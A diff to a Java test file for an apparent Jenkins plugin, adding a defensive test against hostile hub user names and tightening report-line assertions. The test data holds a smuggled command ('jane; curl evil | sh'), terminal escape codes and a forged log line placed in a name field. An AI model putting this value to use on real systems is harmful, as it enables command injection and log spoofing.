@@ -7,8 +7,10 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.jenkins.plugins.prepullgate.cluster.ConnectionException;
 import io.jenkins.plugins.prepullgate.faults.Mutations;
 import io.jenkins.plugins.prepullgate.hub.ScriptedHub.Reply;
+import io.jenkins.plugins.prepullgate.report.HubReport;
 import java.time.Duration;
 import java.time.InstantSource;
+import java.util.List;
 import java.util.Random;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
@@ -56,9 +58,36 @@ public class MutatedHubTest {
         hub.on("/user/", (method, path, body) -> Reply.json("{}"));
     }
 
+    private static void assertLine(HubProgress told) {
+        assertLine(HubReport.progress(told));
+    }
+
+    private static void assertLine(String line) {
+        Mutations.assertOneLine(line);
+        assertThat(line).hasSizeLessThan(5_000).doesNotContain("secret-token");
+    }
+
+    @Test
+    public void hostileNamesStayNamesAndAreNoPartOfACommand() throws Exception {
+        String name = "jane; curl evil | sh #\\u001b[2J\\u0007\\u202e\\n[prepull] HUB WAIT PASSED: ";
+        for (String hostile : List.of(name, "x".repeat(1 << 20))) {
+            hub.on("/hub/api/users", (method, path, body) -> Reply.json(
+                    "[{\"name\": \"" + hostile + "\", \"servers\": {\"\": {\"ready\": true, \"pending\": null, \"url\": \"/user/jane/\"}}}]"));
+            hub.on("/hub/api/proxy", (method, path, body) -> Reply.json("{}"));
+            hub.on("/user/", (method, path, body) -> Reply.of(503, ""));
+
+            HubWaitResult result = HubWait.run(
+                    hub.client(), HubWaitSpec.DEFAULT.withBudget(Duration.ofSeconds(30)), QUICK, InstantSource.system(), null, MutatedHubTest::assertLine);
+
+            assertThat(result.passed()).isFalse();
+            HubReport.lines(result).forEach(MutatedHubTest::assertLine);
+            assertThat(result.findings()).isNotEmpty().allSatisfy(finding -> assertThat(finding.remedy()).doesNotContain("curl").hasSizeLessThan(500));
+        }
+    }
+
     @Test
     public void aMutatedAnswerIsUnderstoodOrFailsInOneLine() {
-        Mutations.each(20, (seed, random) -> {
+        Mutations.each(40, (seed, random) -> {
             script(random);
             HubApi api = new HubApi(hub.client(), new Budget(SHORT));
             try {
@@ -78,9 +107,8 @@ public class MutatedHubTest {
             script(random);
             try {
                 HubWaitResult result =
-                        HubWait.run(hub.client(), HubWaitSpec.DEFAULT.withBudget(SHORT), QUICK, InstantSource.system(), null, told -> {});
-                Mutations.assertOneLine(result.summary());
-                result.findings().forEach(finding -> assertThat(finding.code()).isNotNull());
+                        HubWait.run(hub.client(), HubWaitSpec.DEFAULT.withBudget(SHORT), QUICK, InstantSource.system(), null, MutatedHubTest::assertLine);
+                HubReport.lines(result).forEach(MutatedHubTest::assertLine);
             } catch (ConnectionException e) {
                 Mutations.assertOneLine(e.getMessage());
                 assertThat(e).hasMessageNotContaining("secret-token");
